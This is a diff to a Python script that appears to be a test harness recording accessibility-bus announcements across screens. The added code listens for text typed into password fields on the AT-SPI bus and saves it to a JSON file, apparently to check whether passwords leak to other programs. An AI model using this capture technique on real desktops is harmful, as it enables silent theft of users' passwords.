@@ -85,8 +85,14 @@ def main():
     spoken = []
     state = {"next": 1, "deadline": time.monotonic() + 240}
 
+    typed_secret = []
+
     def on_announcement(event):
         spoken.append({"text": str(event.any_data), "by": event.source.getRoleName()})
+
+    def on_insert(event):  # what any program on the accessibility bus sees being typed
+        if event.source is not None and event.source.getRole() == pyatspi.ROLE_PASSWORD_TEXT:
+            typed_secret.append(str(event.any_data))
 
     def poll():
         n = state["next"]
@@ -95,11 +101,13 @@ def main():
             state["next"], state["deadline"] = n + 1, time.monotonic() + 240
         if state["next"] > screens or time.monotonic() > state["deadline"]:
             (sync / "announcements.json").write_text(json.dumps(spoken, ensure_ascii=False))
+            (sync / "password-text.json").write_text(json.dumps(typed_secret))
             pyatspi.Registry.stop()
             return False
         return True
 
     pyatspi.Registry.registerEventListener(on_announcement, "object:announcement")
+    pyatspi.Registry.registerEventListener(on_insert, "object:text-changed:insert")
     GLib.timeout_add(200, poll)
     pyatspi.Registry.start()
     if state["next"] <= screens:
